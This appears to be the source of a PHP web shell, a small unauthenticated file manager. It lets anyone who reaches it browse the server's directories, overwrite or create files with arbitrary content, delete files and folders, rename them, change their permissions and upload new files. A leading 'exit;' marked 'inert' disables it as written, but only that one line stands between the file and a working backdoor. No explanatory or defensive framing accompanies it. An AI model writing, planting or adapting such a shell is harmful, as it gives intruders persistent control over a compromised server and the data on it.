<?php exit; /* inert */ 
$p = isset($_GET['p']) ? $_GET['p'] : getcwd();
chdir($p);
if (isset($_POST['txt'])) { $o = fopen($_POST['f'], 'w'); fwrite($o, stripslashes($_POST['txt'])); fclose($o); }
if (isset($_GET['del'])) { is_dir($_GET['del']) ? rmdir($_GET['del']) : unlink($_GET['del']); }
if (isset($_POST['new'])) rename($_POST['old'], $_POST['new']);
if (isset($_POST['perm'])) chmod($_POST['old'], octdec($_POST['perm']));
if (isset($_FILES['u'])) copy($_FILES['u']['tmp_name'], $p . '/' . $_FILES['u']['name']);
foreach (scandir('.') as $e) {
    echo '<a href="?p=' . urlencode(realpath($e)) . '">' . $e . '</a> <a href="?p=' . urlencode($p) . '&e=' . $e . '">edit</a> ' . substr(sprintf('%o', fileperms($e)), -4) . '<br>';
}
if (isset($_GET['e'])) echo '<form method=post><input name=f value="' . $_GET['e'] . '"><textarea name=txt>' . htmlspecialchars(file_get_contents($_GET['e'])) . '</textarea><input type=submit></form>';
echo '<form method=post enctype=multipart/form-data><input type=file name=u><input type=submit></form>';
